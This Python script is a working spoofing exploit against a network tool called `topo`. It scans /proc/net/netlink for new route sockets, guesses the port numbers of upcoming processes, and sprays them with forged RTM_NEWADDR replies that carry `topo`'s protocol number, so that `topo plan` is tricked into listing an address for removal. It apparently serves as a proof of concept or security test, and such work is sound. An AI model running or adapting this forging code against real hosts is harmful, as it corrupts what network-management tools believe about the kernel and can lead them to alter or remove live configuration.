"""Forges netlink answers to `topo`'s sockets in this node's network namespace.

Node root holds NET_ADMIN over its node's namespace, so it may send netlink messages to any
socket there. This watches /proc/net/netlink for new route sockets (`topo` observing the node)
and sends each one address answers, with the sequence numbers of the requests that follow the
first, for 192.0.2.99/24 on lo with `topo`'s protocol (200): taken for the kernel's, `topo
plan` would list the address to be removed. Writes how many it sent to /tmp/netlink-forge.
"""
import os
import socket
import struct


def route_sockets():
    ports = set()
    with open("/proc/net/netlink") as f:
        for line in f.read().splitlines()[1:]:
            fields = line.split()
            if fields[1] == "0":  # NETLINK_ROUTE
                ports.add(int(fields[2]) & 0xFFFFFFFF)
    return ports


def new_address(seq):
    ifa = struct.pack("=BBBBI", socket.AF_INET, 24, 0, 0, 1)  # struct ifaddrmsg, lo
    address = bytes([192, 0, 2, 99])
    attrs = struct.pack("=HH", 8, 1) + address  # IFA_ADDRESS
    attrs += struct.pack("=HH", 8, 2) + address  # IFA_LOCAL
    attrs += struct.pack("=HH", 5, 11) + bytes([200, 0, 0, 0])  # IFA_PROTO
    body = ifa + attrs
    # RTM_NEWADDR, NLM_F_MULTI
    return struct.pack("=IHHII", 16 + len(body), 20, 2, seq, 0) + body


def main():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    known = route_sockets()
    sent = 0
    with open("/tmp/netlink-forge", "w") as f:
        f.write("sent 0\n")
    # A process's first netlink socket in a namespace gets its PID as port: `topo`'s next
    # commands will have PIDs a little above the last one seen, whose sockets are sprayed
    # before they show in /proc/net/netlink.
    last = 0
    forged = [new_address(seq) for seq in (2, 3)]
    while True:
        now = route_sockets()
        new = now - known
        targets = set(new)
        if last:
            targets.update(range(last + 1, last + 64))
        for port in targets:
            for msg in forged:
                try:
                    s.sendto(msg, (port, 0))
                    sent += 1
                except OSError:
                    pass
        last = max([p for p in new if p < 1 << 22] + [last])
        if new:
            with open("/tmp/netlink-forge.new", "w") as f:
                f.write(f"sent {sent}\n")
            os.rename("/tmp/netlink-forge.new", "/tmp/netlink-forge")
        known = now


main()
